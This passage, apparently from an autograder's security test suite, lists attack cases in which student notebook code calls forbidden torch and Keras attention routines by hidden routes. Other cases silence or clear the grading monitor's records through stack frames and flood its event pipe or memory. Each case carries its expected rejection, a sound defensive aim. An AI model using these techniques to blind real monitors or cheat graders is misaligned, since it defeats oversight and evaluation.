CALL = lambda q, k, v, m: _attend(q, k, v, attn_mask=m).numpy()
'''

# The forbidden-routine rule's bypasses of issue 13, each written as a student would: the forbidden call sits in a
# helper cell (so that the exercise's own `def` names nothing forbidden) and reaches the library by another road.
ATTEND = "import numpy as np\nimport torch\nfrom torch.nn.functional import scaled_dot_product_attention as attend\n"

IN_THREAD = ATTEND + '''
import threading


def CALL(q, k, v, m):
    box = {}
    worker = threading.Thread(target=lambda: box.update(out=attend(q, k, v, attn_mask=m).numpy()))
    worker.start()
    worker.join()
    return box["out"]
'''

POP_MODES = ATTEND + '''
_pop = getattr(torch._C, "_pop_torch_" + "function_stack")
_push = getattr(torch._C, "_push_on_torch_" + "function_stack")


def CALL(q, k, v, m):
    modes = []
    while torch._C._len_torch_function_stack():
        modes.append(_pop())
    try:
        return attend(q, k, v, attn_mask=m).numpy()
    finally:
        for mode in reversed(modes):
            _push(mode)
'''

DISABLED_IN_HELPER = ATTEND + '''
_off = getattr(torch._C, "DisableTorch" + "Function")


def CALL(q, k, v, m):
    with _off():
        return attend(q, k, v, attn_mask=m).numpy()
'''

STACK_HELPER = ATTEND + '''
import sys


def CALL(q, k, v, m):
    frame = sys._getframe()
    while frame is not None:                  # up to the sandbox's worker: blame another exercise for what follows
        if "_student_caller" in frame.f_globals:
            frame.f_globals["_student_caller"] = lambda: "flash_attention"
        frame = frame.f_back
    return attend(q, k, v, attn_mask=m).numpy()
'''

CLEAR_RECORD = ATTEND + '''
import sys


def CALL(q, k, v, m):
    out = attend(q, k, v, attn_mask=m).numpy()
    frame = sys._getframe()
    while frame is not None:                  # whatever recorded the call up the stack forgets it
        for value in list(frame.f_locals.values()):
            for name in ("used", "events", "calls"):
                record = getattr(value, name, None)
                if hasattr(record, "clear"):
                    record.clear()
        frame = frame.f_back
    return out
'''

JIT_SCRIPT = '''
import numpy as np
import torch
from typing import Optional


@torch.jit.script
def _scripted(q: torch.Tensor, k: torch.Tensor, v: torch.Tensor, m: Optional[torch.Tensor]) -> torch.Tensor:
    return torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=m)


def CALL(q, k, v, m):
    return _scripted(q, k, v, m).numpy()
'''

LAZY = ATTEND + '''


class Lazy:
    """Looks like a torch tensor to whoever converts it; computes only then."""
    __module__ = "torch.lazy"

    def __init__(self, *args):
        self.args = args

    def detach(self):
        return self

    def cpu(self):
        q, k, v, m = self.args
        return attend(q, k, v, attn_mask=m)
'''

SDPA_LAZY = """
def scaled_dot_product_attention(query, key, value, mask=None, return_weights=False):
    q, k, v = (torch.as_tensor(np.asarray(a, dtype=np.float64)) for a in (query, key, value))
    m = None if mask is None else torch.as_tensor(np.asarray(mask))
    if return_weights:
        s = (q @ k.transpose(-1, -2)) / q.shape[-1] ** 0.5
        if m is not None:
            s = s.masked_fill(~m, float("-inf"))
        return Lazy(q, k, v, m), torch.softmax(s, dim=-1).numpy()
    return Lazy(q, k, v, m)
"""

REDISPATCH = FLASH_CALL.replace(
    "_flash = torch._scaled_dot_product_flash_attention_for_cpu\n",
    "_op = getattr(torch.ops.aten, '_scaled_dot_product_flash_attention_for_' + 'cpu').default\n"
    "_below = torch._C.DispatchKeySet(torch._C.DispatchKey.CPU)\n"
    "_flash = lambda *args, **kwargs: _op.redispatch(_below, *args, **kwargs)\n")

OTHER_ASSIGNMENT_NAME = ATTEND + '''


def flash_attention(q, k, v, m):          # named after a kv_cache exercise, top level, called from the solution
    return attend(q, k, v, attn_mask=m).numpy()


CALL = flash_attention
'''

FORKED = ATTEND + '''
import io
import os


def CALL(q, k, v, m):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:                           # the child computes; only bytes come back
        buf = io.BytesIO()
        np.save(buf, attend(q, k, v, attn_mask=m).numpy())
        data = buf.getvalue()
        while data:
            data = data[os.write(write, data):]
        os._exit(0)
    os.close(write)
    chunks = []
    while chunk := os.read(read, 1 << 16):
        chunks.append(chunk)
    os.close(read)
    os.waitpid(pid, 0)
    return np.load(io.BytesIO(b"".join(chunks)))
'''

KERAS_SCORES = '''
import numpy as np
import keras

_layer = getattr(keras.layers, "Atten" + "tion")(score_mode="dot")
_layer.build([(1, 1, 1), (1, 1, 1)])


def CALL(q, k, v, mask):
    scores = _layer._calculate_scores(query=q, key=k)              # q @ k^T, by Keras
    if mask is not None:
        scores = keras.ops.where(np.asarray(mask), scores, -np.inf)
    out, _ = _layer._apply_scores(scores=scores, value=v)         # softmax and the weighted sum, by Keras
    return keras.ops.convert_to_numpy(out)
'''

ADDITIVE_SCORES = KERAS_SCORES.replace(
    '_layer = getattr(keras.layers, "Atten" + "tion")(score_mode="dot")\n_layer.build([(1, 1, 1), (1, 1, 1)])',
    '_layer = getattr(keras.layers, "AdditiveAtten" + "tion")(use_scale=False)   # sum(tanh(q + k)), by Keras')

VIA_CALL = """
def {name}(query, key, value, mask=None):
    q, k, v = (np.asarray(a, dtype=np.float32) for a in (query, key, value))
    return CALL(q, k, v, mask)
"""

MHA_INTERNALS = '''
import numpy as np
import keras

_MHA = getattr(keras.layers, "MultiHead" + "Attention")


def CALL(q, k, v, mask):                  # (B, H, T, d) each, as split_heads gives them
    layer = _MHA(num_heads=q.shape[1], key_dim=q.shape[-1], value_dim=v.shape[-1])
    layer._build_attention(4)
    qt, kt, vt = (np.swapaxes(a, 1, 2) for a in (q, k, v))      # (B, T, H, d)
    m = None if mask is None else np.broadcast_to(mask, q.shape[:2] + (q.shape[2], k.shape[2]))
    out, _ = layer._compute_attention(qt, kt, vt, attention_mask=m, return_attention_scores=True)
    return np.swapaxes(keras.ops.convert_to_numpy(out), 1, 2)   # (B, H, Tq, dv)
'''

MHA_LAYER_VIA = """
def multi_head_attention_layer(x_q, x_kv, params, num_heads, mask=None):
    p = {name: np.asarray(w, dtype=np.float32) for name, w in params.items()}
    x_q, x_kv = np.asarray(x_q, dtype=np.float32), np.asarray(x_kv, dtype=np.float32)
    q = split_heads(x_q @ p["w_q"] + p["b_q"], num_heads)    # (B, H, Tq, dk)
    k = split_heads(x_kv @ p["w_k"] + p["b_k"], num_heads)   # (B, H, Tk, dk)
    v = split_heads(x_kv @ p["w_v"] + p["b_v"], num_heads)   # (B, H, Tk, dv)
    y = CALL(q, k, v, mask)                                  # (B, H, Tq, dv)
    return merge_heads(y) @ p["w_o"] + p["b_o"]              # (B, Tq, D)
"""


def forbidden(entry_id, ko, en, helper, exercise="scaled_dot_product_attention", solution=None,
              expect=("금지된 라이브러리 루틴",)):
    """A bypass of the forbidden-routine rule: ``helper`` in its own cell, ``exercise`` calling its ``CALL``."""
    return Entry(entry_id, "attack", "cells", ko, en, (exercise,),
                 with_cell(helper, exercise, solution or SDPA_VIA), expect=expect)


FORBIDDEN_BYPASSES = [
    forbidden("forbidden_in_thread", "금지된 SDPA 를 스레드 안에서 호출",
              "call the forbidden SDPA in a thread", IN_THREAD),
    forbidden("forbidden_pop_function_modes", "torch 함수 모드 스택을 비운 뒤 금지된 SDPA 호출 (도우미 셀)",
              "pop every torch-function mode, call the forbidden SDPA, push them back (helper cell)", POP_MODES),
    forbidden("forbidden_disable_in_helper", "도우미 셀에서 DisableTorchFunction 으로 감시를 끄고 금지된 SDPA 호출",
              "switch torch functions off with DisableTorchFunction in a helper cell, then call SDPA",
              DISABLED_IN_HELPER),
    forbidden("forbidden_stack_helper_swap", "호출 스택의 프레임으로 감시기의 도우미 함수를 바꿔치기",
              "replace the monitor's caller helper through the frames of the call stack", STACK_HELPER),
    forbidden("forbidden_clear_record", "호출 스택의 프레임으로 감시기가 기록한 내용을 지우기",
              "clear what the monitor recorded through frame objects", CLEAR_RECORD),
    forbidden("forbidden_jit_script", "torch.jit.script 로 컴파일한 함수 안에서 금지된 SDPA 호출",
              "call the forbidden SDPA inside a torch.jit.script function", JIT_SCRIPT),
    forbidden("forbidden_lazy_result", "변환될 때에야 금지된 SDPA 를 부르는 지연 객체를 반환",
              "return a lazy object that calls the forbidden SDPA only when the grader's side converts it",
              LAZY, solution=SDPA_LAZY,
              expect=("배열이 아닌 값",)),   # converted by exact type only: its conversion never runs, nothing to use
    forbidden("forbidden_redispatch_below", "디스패처의 CPU 키로 바로 redispatch 해 감시 아래에서 커널 호출",
              "redispatch the flash CPU kernel straight to the CPU key, below the monitor", REDISPATCH),
    forbidden("forbidden_other_assignment_name", "다른 과제의 연습 이름(flash_attention)을 붙인 최상위 도우미에서 호출",
              "call the forbidden SDPA from a top-level helper named after another assignment's exercise",
              OTHER_ASSIGNMENT_NAME),
    forbidden("forbidden_forked_child", "fork 한 자식 프로세스에서 금지된 SDPA 를 계산해 결과만 받기",
              "compute the forbidden SDPA in a forked child and read back the bytes", FORKED,
              expect=("`os.fork`은(는) 쓸 수 없습니다",)),   # the sandbox refuses the fork itself
    forbidden("keras_attention_internals", "keras Attention 층의 내부 메서드(_calculate_scores, _apply_scores) 사용",
              "use keras Attention's internal scoring methods (_calculate_scores, _apply_scores)",
              KERAS_SCORES, exercise=TARGET, solution=VIA_CALL.format(name=TARGET)),
    forbidden("keras_additive_internals", "keras AdditiveAttention 의 내부 메서드로 가산 어텐션 계산",
              "compute additive attention with keras AdditiveAttention's internal methods",
              ADDITIVE_SCORES, exercise="additive_attention", solution=VIA_CALL.format(name="additive_attention")),
    forbidden("keras_mha_internals", "multi_head_attention_layer 에서 keras MultiHeadAttention._compute_attention 사용",
              "use keras MultiHeadAttention._compute_attention inside multi_head_attention_layer",
              MHA_INTERNALS, exercise="multi_head_attention_layer", solution=MHA_LAYER_VIA),
]


# Roads the rule already closed before issue 13 (kept closed by the dispatcher-level watch).
EXEC_STRING = '''
import numpy as np
import torch

CALL = eval("lambda q, k, v, m: torch.nn.functional.scaled_dot_product_" + "attention(q, k, v, attn_mask=m).numpy()")
'''

C_NN = '''
import numpy as np
import torch

_f = getattr(torch._C._nn, "scaled_dot_product_" + "attention")
CALL = lambda q, k, v, m: _f(q, k, v, attn_mask=m).numpy()
'''

MATH_KERNEL = '''
import numpy as np
import torch

_f = getattr(torch, "_scaled_dot_product_attention_" + "math")
CALL = lambda q, k, v, m: _f(q, k, v, attn_mask=m)[0].numpy()
'''

COMPILED = ATTEND + '''
_compiled = torch.compile(attend, backend="eager", dynamic=True)
CALL = lambda q, k, v, m: _compiled(q, k, v, attn_mask=m).numpy()
'''

TRACED = ATTEND + '''


def CALL(q, k, v, m):
    traced = torch.jit.trace(lambda a, b, c: attend(a, b, c, attn_mask=m), (q, k, v), check_trace=False)
    return traced(q, k, v).numpy()
'''

KERAS_DPA = '''
import numpy as np
import torch
import keras

_dpa = getattr(keras.ops, "dot_product_" + "attention")


def CALL(q, k, v, m):                      # keras wants (B, T, H, d)
    lead, tq, tk = q.shape[:-2], q.shape[-2], k.shape[-2]
    flat = lambda a: a.reshape(-1, a.shape[-2], 1, a.shape[-1]).numpy()
    mask = None if m is None else torch.broadcast_to(m, lead + (tq, tk)).reshape(-1, 1, tq, tk).numpy()
    out = keras.ops.convert_to_numpy(_dpa(flat(q), flat(k), flat(v), mask=mask))
    return out.reshape(*lead, tq, v.shape[-1])
'''

FORBIDDEN_BYPASSES += [
    forbidden("forbidden_exec_string", "문자열을 eval 해 만든 함수로 금지된 SDPA 호출",
              "call the forbidden SDPA through a function made by eval of a string", EXEC_STRING),
    forbidden("forbidden_c_nn", "torch._C._nn 의 SDPA 를 직접 호출", "call torch._C._nn's SDPA directly", C_NN),
    forbidden("forbidden_math_kernel", "torch._scaled_dot_product_attention_math(수학 커널)를 호출",
              "call the math kernel torch._scaled_dot_product_attention_math", MATH_KERNEL),
    forbidden("forbidden_torch_compile", "torch.compile 한 SDPA 를 호출", "call a torch.compile'd SDPA", COMPILED),
    forbidden("forbidden_jit_trace", "torch.jit.trace 한 함수 안에서 SDPA 호출",
              "call SDPA inside a torch.jit.trace'd function", TRACED),
    forbidden("forbidden_keras_ops_dpa", "keras.ops.dot_product_attention(안쪽 구현)을 별칭으로 호출",
              "call keras.ops.dot_product_attention under an alias", KERAS_DPA),
]


# ----------------------------------------------------------------------------------------------- attacks: the answers
# While an exercise is graded, the other contract functions it calls are proxies that the grader answers with its
# float64 references (autograder/graders/isolation.py). A question can be tiny on the wire and huge to answer
# (issue 21): the grader must size it first and refuse what is over ``answer_mb``, with the Korean reason. The
# function gets its points only if the grader answered (and it then computes the right result itself).
PROXY_LONG_SEQUENCE = """
import numpy as np

def multi_head_attention_layer(x_q, x_kv, params, num_heads, mask=None):
    big = np.ones((1, 8000, 1), np.float16)                  # 16 KB on the wire
    multi_head_attention(big, big, big, 1)                   # the grader's answer: 8000 x 8000 float64 scores
    p = {name: np.asarray(w, dtype=np.float64) for name, w in params.items()}
    q = split_heads(np.asarray(x_q) @ p["w_q"] + p["b_q"], num_heads)          # (B, H, Tq, dk)
    k = split_heads(np.asarray(x_kv) @ p["w_k"] + p["b_k"], num_heads)         # (B, H, Tk, dk)
    v = split_heads(np.asarray(x_kv) @ p["w_v"] + p["b_v"], num_heads)         # (B, H, Tk, dv)
    return merge_heads(scaled_dot_product_attention(q, k, v, mask)) @ p["w_o"] + p["b_o"]
"""

PROXY_BROADCAST_BATCH = """
import numpy as np

def self_attention(x, w_q, w_k, w_v, causal=False):
    # batch axes that broadcast: (32, 1) against (1, 32), 24 K numbers sent, 32 x 32 x 256 x 256 scores to answer
    scaled_dot_product_attention(np.ones((32, 1, 256, 1)), np.ones((1, 32, 256, 1)), np.ones((1, 32, 256, 1)))
    x = np.asarray(x, dtype=np.float64)
    q, k, v = x @ w_q, x @ w_k, x @ w_v                                        # (..., T, dk|dv)
    mask = causal_mask(x.shape[-2]) if causal else None
    return scaled_dot_product_attention(q, k, v, mask)
"""

PROXY_ATTACKS = [
    Entry("proxy_long_sequence", "attack", "cells",
          "multi_head_attention_layer 안에서 토큰 8000개짜리 multi_head_attention(big, big, big, 1)을 물어 채점기가 "
          "8000 x 8000 float64 점수 행렬을 계산하게 하기 (issue 21: 16000개면 6.3 GB)",
          "ask multi_head_attention(big, big, big, 1) with 8000 tokens inside multi_head_attention_layer, so that the "
          "grader computes 8000 x 8000 float64 scores (issue 21: 6.3 GB with 16000)",
          ("multi_head_attention_layer",), on("multi_head_attention_layer", PROXY_LONG_SEQUENCE),
          expect=(Reason.ANSWER_TOO_BIG,)),
    Entry("proxy_broadcast_batch", "attack", "cells",
          "self_attention 안에서 배치 축이 브로드캐스팅되는 (32,1,256,1)과 (1,32,256,1)로 "
          "scaled_dot_product_attention 을 물어 채점기가 32 x 32 x 256 x 256 점수를 계산하게 하기 (issue 21)",
          "ask scaled_dot_product_attention with batch axes that broadcast, (32,1,256,1) against (1,32,256,1), "
          "inside self_attention: 32 x 32 x 256 x 256 scores for the grader (issue 21)",
          ("self_attention",), on("self_attention", PROXY_BROADCAST_BATCH), expect=(Reason.ANSWER_TOO_BIG,)),
]


# ----------------------------------------------------------------------------------------------- attacks: the monitor
# The monitor's state at run time, reached from the student's code: the serve loop's frame is below every cell and
# call, and holds what ``guard`` returned and (through ``guard.__globals__``) the monitor module's globals.
EMIT_SILENCED = """
import sys
import numpy as np
import torch


def _silence():
    f = sys._getframe()
    while f is not None and "emit" not in f.f_locals:
        f = f.f_back
    emit = f.f_locals["emit"]                                          # what guard() returned to the serve loop
    cells = dict(zip(emit.__code__.co_freevars, emit.__closure__))
    cells["write"].cell_contents = lambda fd, data: len(data)         # reports written nowhere


_silence()
CALL = getattr(torch, "soft" + "max")
"""

MONITOR_GLOBALS = """
import gc
import sys
import numpy as np
import torch

try:
    f = sys._getframe()
    while "guard" not in f.f_globals:
        f = f.f_back
    f.f_globals["guard"].__globals__["REFUSED"].clear()               # the audit hook's table of refused events
    for obj in gc.get_objects():                                       # refused, while the table is the hook's
        if type(obj).__name__ == "function" and obj.__name__ == "emit" and obj.__closure__:
            cells = dict(zip(obj.__code__.co_freevars, obj.__closure__))
            if "write" in cells:
                cells["write"].cell_contents = lambda fd, data: len(data)
except Exception:
    pass
CALL = getattr(torch, "soft" + "max")
"""

EVENT_FLOOD = """
import os
import sys
import time

_f = sys._getframe()
while "event_fd" not in _f.f_locals:              # the serve loop's frame holds the event pipe's number
    _f = _f.f_back
_fd, _line, _end = _f.f_locals["event_fd"], b"torch:softmax\\n" * 65536, time.monotonic() + 4
while time.monotonic() < _end:
    os.write(_fd, _line)                          # valid reports, as fast as the pipe takes them
del _f
"""


def event_flood(ctx):
    """The solution notebook with four cells that each flood the event pipe for 4 s (16 s in all)."""
    nb = copy.deepcopy(ctx.solution)
    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells[first_code + 1:first_code + 1] = [new_code_cell(EVENT_FLOOD) for _ in range(4)]
    return nb


MONITOR_ATTACKS = [
    Entry("monitor_emit_silenced", "attack", "cells",
          "serve 루프의 프레임에서 guard 가 돌려준 emit 을 찾아 그 클로저 셀(write)을 바꿔 모든 보고를 지운 뒤 "
          "softmax 에서 torch.softmax 사용",
          "find the emit guard() returned in the serve loop's frame, rewrite its closure cell (write) so that no "
          "report is written, then use torch.softmax inside softmax",
          ("softmax",), with_cell(EMIT_SILENCED, "softmax", SOFTMAX_VIA), expect=(Reason.FORBIDDEN_ROUTINE,)),
    Entry("monitor_globals_cleared", "attack", "cells",
          "guard.__globals__ 로 감시기 모듈의 거부 목록(REFUSED)을 비우고 gc 로 감시 커널의 emit 을 찾아 보고를 "
          "지운 뒤 softmax 에서 torch.softmax 사용",
          "empty the monitor module's table of refused events (REFUSED) through guard.__globals__, find the kernels' "
          "emit with gc and silence it, then use torch.softmax inside softmax",
          ("softmax",), with_cell(MONITOR_GLOBALS, "softmax", SOFTMAX_VIA), expect=(Reason.FORBIDDEN_ROUTINE,)),
    Entry("event_pipe_flood", "attack", "cells",
          "serve 루프의 프레임에서 기록 통로의 번호를 찾아 셀 네 개에서 16초 동안 올바른 보고 줄을 쏟아부어 채점기의 "
          "메모리를 채우기",
          "find the event pipe's number in the serve loop's frame and pour valid report lines down it from four cells "
          "for 16 s, to fill the grader's memory",
          (), event_flood, spares=()),
]

# ----------------------------------------------------------------------------------------------- attacks: clones
# A library routine copied as an object (issue 21): its code object replaced (another first line number) and made a
# new function with ``types.FunctionType``, every telling name built from strings. The monitor knew routines by
# their code objects; a clone is another object with the same content.
KERAS_CLONE = """
import types
import numpy as np
import keras

_cls = getattr(keras.layers, "Atten" + "tion")
_layer = _cls(score_mode="dot")
_layer.build([(1, 1, 1), (1, 1, 1)])


def _clone(name):
    f = getattr(_cls, name)
    code = getattr(f, "__co" + "de__")
    code = code.replace(co_firstlineno=code.co_firstlineno + 7)
    return getattr(types, "Function" + "Type")(code, getattr(f, "__glo" + "bals__"), "helper",
                                               getattr(f, "__defa" + "ults__"), getattr(f, "__clo" + "sure__"))


_scores = _clone("_calculate" + "_scores")     # q @ k^T, Keras's own code
_apply = _clone("_apply" + "_scores")          # softmax and the weighted sum, Keras's own code
"""

SDPA_VIA_CLONES = """
def scaled_dot_product_attention(query, key, value, mask=None, return_weights=False):
    q, k, v = (np.asarray(a, dtype=np.float32) for a in (query, key, value))
    lead = np.broadcast_shapes(q.shape[:-2], k.shape[:-2], v.shape[:-2])
    flat = lambda a: np.broadcast_to(a, lead + a.shape[-2:]).reshape((-1,) + a.shape[-2:])
    scores = _scores(_layer, query=flat(q) / np.sqrt(q.shape[-1]), key=flat(k))           # (N, Tq, Tk)
    m = None
    if mask is not None:
        m = np.broadcast_to(np.asarray(mask, dtype=bool), lead + tuple(scores.shape[-2:])).reshape(scores.shape)
    out, weights = _apply(_layer, scores=scores, value=flat(v), scores_mask=m)
    out = keras.ops.convert_to_numpy(out).reshape(lead + (q.shape[-2], v.shape[-1]))
    if return_weights:
        return out, keras.ops.convert_to_numpy(weights).reshape(lead + tuple(scores.shape[-2:]))
    return out
"""

DECOMP_CLONE = """
import importlib
import types
import numpy as np
import torch

_module = importlib.import_module("torch._de" + "comp.decompo" + "sitions")
_f = getattr(_module, "_soft" + "max")
while hasattr(_f, "__wrap" + "ped__"):
    _f = getattr(_f, "__wrap" + "ped__")
_code = getattr(_f, "__co" + "de__")
_code = _code.replace(co_firstlineno=_code.co_firstlineno + 7)
_own = getattr(types, "Function" + "Type")(_code, getattr(_f, "__glo" + "bals__"), "helper",
                                           getattr(_f, "__defa" + "ults__"), getattr(_f, "__clo" + "sure__"))
"""

SOFTMAX_VIA_CLONE = """
def softmax(x, axis=-1):
    return _own(torch.as_tensor(np.asarray(x)), axis, False).numpy()      # torch's Python softmax, cloned
"""



def pasted_keras_source(ctx):
    """Keras's ``Attention._calculate_scores`` and ``_apply_scores`` pasted into the notebook as the student's own
    functions: renamed, docstrings cut, reformatted (``ast.unparse``), with ``scaled_dot_product_attention`` using them
    on a plain stand-in for the layer (no Keras layer object at all)."""
    import ast
    import inspect
    import textwrap

    import keras

    pasted = []
    for method, name in (("_calculate" + "_scores", "my_scores"), ("_apply" + "_scores", "my_weighted_sum")):
        tree = ast.parse(textwrap.dedent(inspect.getsource(getattr(keras.layers.Attention, method))))
        function = tree.body[0]
        function.name = name
        function.body = function.body[1:]           # the docstring
        pasted.append(ast.unparse(function))
    helper = ("import types\nimport numpy as np\nimport keras\nfrom keras.src import backend, ops\n\n"
              "_layer = types.SimpleNamespace(score_mode='dot', scale=None, dropout=0.0)\n\n\n"
              + "\n\n\n".join(pasted) + "\n")
    solution = SDPA_VIA_CLONES.replace("_scores(_layer,", "my_scores(_layer,").replace("_apply(_layer,",
                                                                                        "my_weighted_sum(_layer,")
    return with_cell(helper, "scaled_dot_product_attention", solution)(ctx)


CLONE_ATTACKS = [
    Entry("keras_attention_clone", "attack", "cells",
          "keras Attention 의 _calculate_scores/_apply_scores 코드 객체를 복제(줄 번호를 바꾼 code.replace + "
          "types.FunctionType, 이름은 문자열로 조립)해 scaled_dot_product_attention 에서 사용 (issue 21)",
          "clone keras Attention's _calculate_scores/_apply_scores (code.replace with another first line number, "
          "types.FunctionType, names built from strings) and use them in scaled_dot_product_attention (issue 21)",
          ("scaled_dot_product_attention",), with_cell(KERAS_CLONE, "scaled_dot_product_attention", SDPA_VIA_CLONES),
          expect=(Reason.FORBIDDEN_ROUTINE,), review=("code.replace", "FunctionType")),
    Entry("torch_decomp_softmax_clone", "attack", "cells",
          "torch._decomp.decompositions._softmax(토치의 파이썬 softmax)를 나눈 이름의 importlib 로 가져와 복제해 "
          "softmax 에서 사용 (issue 21)",
          "import torch._decomp.decompositions._softmax (torch's Python softmax) through importlib with a split name, "
          "clone it and use it in softmax (issue 21)",
          ("softmax",), with_cell(DECOMP_CLONE, "softmax", SOFTMAX_VIA_CLONE),
          expect=(Reason.FORBIDDEN_ROUTINE,), review=("code.replace", "FunctionType")),
    Entry("keras_attention_source_pasted", "attack", "cells",
          "keras Attention 의 _calculate_scores/_apply_scores 소스를 노트북에 붙여 넣고 이름을 바꾸고 docstring 을 "
          "지우고 다시 서식화해 scaled_dot_product_attention 에서 사용",
          "paste keras Attention's _calculate_scores/_apply_scores source into the notebook, renamed, docstrings cut, "
          "reformatted, and use it in scaled_dot_product_attention",
          ("scaled_dot_product_attention",), pasted_keras_source, expect=(Reason.FORBIDDEN_ROUTINE,)),
]

# ----------------------------------------------------------------------------------------------- attacks: the library
# The library's attention wherever it lives, and the guard itself (issue 42): routines the rules did not know, the
# library changed under the watch, its source compiled again, the guard's frames reached from a signal handler, the
# memory rule reset or fooled.
FLEX = """
import importlib
import numpy as np
import torch

_flex = getattr(importlib.import_module("torch.nn.attention.flex_" + "attention"), "flex_" + "attention")


def CALL(q, k, v, m):                    # flex attention wants (B, H, T, d)
    lead = torch.broadcast_shapes(q.shape[:-2], k.shape[:-2], v.shape[:-2])
    tq, tk = q.shape[-2], k.shape[-2]
    flat = lambda a: a.expand(lead + a.shape[-2:]).reshape(-1, 1, a.shape[-2], a.shape[-1])
    score_mod = None
    if m is not None:
        allowed = m.expand(lead + (tq, tk)).reshape(-1, 1, tq, tk)
        score_mod = lambda s, b, h, i, j: torch.where(allowed[b, h, i, j], s, -float("inf"))
    return _flex(flat(q), flat(k), flat(v), score_mod=score_mod).reshape(lead + (tq, v.shape[-1]))
"""

QUANTIZABLE_MHA = """
import importlib
import numpy as np
import torch

_MHA = getattr(importlib.import_module("torch.ao.nn.quantiz" + "able"), "Multihead" + "Attention")


def multi_head_attention(query, key, value, num_heads, mask=None):
    q, k, v = (torch.as_tensor(np.asarray(a, dtype=np.float32)).transpose(0, 1) for a in (query, key, value))
    tq, b, c = q.shape                                       # (Tq, B, C): its batch_first is not honoured
    tk = k.shape[0]
    layer = _MHA(c, num_heads, bias=False)
    with torch.no_grad():
        for linear in (layer.linear_Q, layer.linear_K, layer.linear_V, layer.out_proj):
            linear.weight.copy_(torch.eye(c))                # identity projections
    m = None
    if mask is not None:
        m = np.broadcast_to(np.asarray(mask, dtype=bool), (b, num_heads, tq, tk)).reshape(-1, tq, tk)
        m = ~torch.as_tensor(m.copy())                       # torch: True = masked out
    out, _ = layer(q, k, v, attn_mask=m, need_weights=False)
    return out.detach().transpose(0, 1).numpy()              # (B, Tq, C)
"""

SOURCE_EXECUTED = """
import importlib
import numpy as np
import keras

_path = importlib.import_module("keras.src.layers.attention.atten" + "tion").__file__
with open(_path) as fh:                                      # Keras's own attention.py, read at run time
    _text = fh.read()
_text = _text.replace("from keras.src import ops\\n", "from keras.src import ops as kops\\n").replace("ops.", "kops.")
_space = {"__name__": "my_attention"}
exec(_text, _space)                                          # its code, renamed: no code object is Keras's
_layer = _space["Atten" + "tion"](score_mode="dot")
_layer.build([(1, 1, 1), (1, 1, 1)])


def CALL(q, k, v, mask):
    scores = getattr(_layer, "_calculate" + "_scores")(query=q / q.shape[-1] ** 0.5, key=k)
    if mask is not None:
        scores = keras.ops.where(np.asarray(mask), scores, -np.inf)
    out, _ = getattr(_layer, "_apply" + "_scores")(scores=scores, value=v)
    return keras.ops.convert_to_numpy(out)
"""

OPS_REPLACED = """
import importlib
import types
import numpy as np
import keras

_module = importlib.import_module("keras.src.layers.attention.atten" + "tion")
_cls = getattr(_module, "Atten" + "tion")


def _numpy_softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)


# Keras's attention module computes with numpy from now on: no torch kernel runs beneath its methods
setattr(_module, "o" + "ps", types.SimpleNamespace(matmul=np.matmul, swapaxes=np.swapaxes, multiply=np.multiply,
                                                  logical_not=np.logical_not, expand_dims=np.expand_dims,
                                                  where=np.where, softmax=_numpy_softmax))
_layer = types.SimpleNamespace(score_mode="dot", scale=None, dropout=0.0)
_scores = getattr(_cls, "_calculate" + "_scores")
_apply = getattr(_cls, "_apply" + "_scores")
"""

KERNELS_REPLACED = """
import numpy as np
import torch
import torch.library as _library

getattr(_library, "_im" + "pls").clear()                    # torch's record of Python registrations: forgotten
_own = _library.Library("aten", "IMPL")


def _matmul(a, b):
    return torch.from_numpy(np.matmul(a.numpy(), b.numpy()))


def _softmax(x, dim, half_to_float):
    a = x.numpy()
    e = np.exp(a - a.max(axis=dim, keepdims=True))
    return torch.from_numpy(e / e.sum(axis=dim, keepdims=True))


for _name, _kernel in (("mm", _matmul), ("bmm", _matmul), ("_soft" + "max", _softmax)):
    _own.impl(_name, _kernel, "CPU")                           # over the guard's kernels
""" + KERAS_SCORES

HANDLER_WALKS = """
import signal
import time
import numpy as np
import torch

_found = []


def _walk(signum, frame):                 # a signal handler is given the frame it interrupted
    f = frame
    while f is not None:
        try:
            seen = f.f_locals
        except Exception:
            seen = {}
        if "original" in seen and "keyset" in seen and seen.get("token") == b"torch:softmax\\n":
            _found.append((seen["original"], seen["keyset"]))
        f = f.f_back


signal.signal(signal.SIGPROF, _walk)
signal.setitimer(signal.ITIMER_PROF, 0.0005, 0.0005)
_x, _end = torch.randn(64, 64), time.monotonic() + 5
while time.monotonic() < _end and len(_found) < 50:
    torch.softmax(_x, -1)                 # the guard's softmax kernels, interrupted as they run
signal.setitimer(signal.ITIMER_PROF, 0, 0)
signal.signal(signal.SIGPROF, signal.SIG_IGN)


def CALL(x, axis):
    for original, keyset in _found:       # the original kernel, called past the guard's report
        try:
            return original.call_boxed(keyset, x.contiguous(), axis % x.dim(), False)
        except Exception:
            continue
    return torch.zeros_like(x)
"""

# Library code seen whenever it runs: a routine traced at notebook time into code torch.fx generates (the graph kept,
# called by the solution), torch's causal bias materialised, torch.distributions' normalisation. Names are built from
# strings, so that only the run-time watch can see them.
TRACED_SOFTMAX = """
import importlib
import numpy as np
import torch
from torch.fx.experimental.proxy_tensor import make_fx

_aten_softmax = getattr(torch.ops.aten, "_soft" + "max")
_table = getattr(importlib.import_module("torch._de" + "comp"), "get_decompositions")([_aten_softmax])
# torch's own decomposition of the softmax kernel, traced once per dtype with symbolic shapes: the graph is kept
_graphs = {dtype: make_fx(lambda x: _aten_softmax(x, -1, False), decomposition_table=_table,
                          tracing_mode="symbolic")(torch.zeros(3, 4, dtype=dtype))
           for dtype in (torch.float16, torch.float32, torch.float64)}


def CALL(x, axis):                     # only the generated code runs in the graded call
    moved = x.movedim(axis, -1)
    return _graphs[x.dtype](moved.reshape(-1, moved.shape[-1])).reshape(moved.shape).movedim(-1, axis)
"""

CAUSAL_BIAS = """
import importlib
import numpy as np

_bias = importlib.import_module("torch.nn.attention.bi" + "as")


def causal_mask(t_q, t_k=None):
    t_k = t_q if t_k is None else t_k
    variant = getattr(_bias, "Causal" + "Variant").LOWER_RIGHT
    return getattr(getattr(_bias, "Causal" + "Bias")(variant, t_q, t_k), "_mate" + "rialize")().numpy()
"""

CATEGORICAL_SOFTMAX = """
import importlib
import numpy as np
import torch

_distributions = importlib.import_module("torch.distri" + "butions")


def softmax(x, axis=-1):
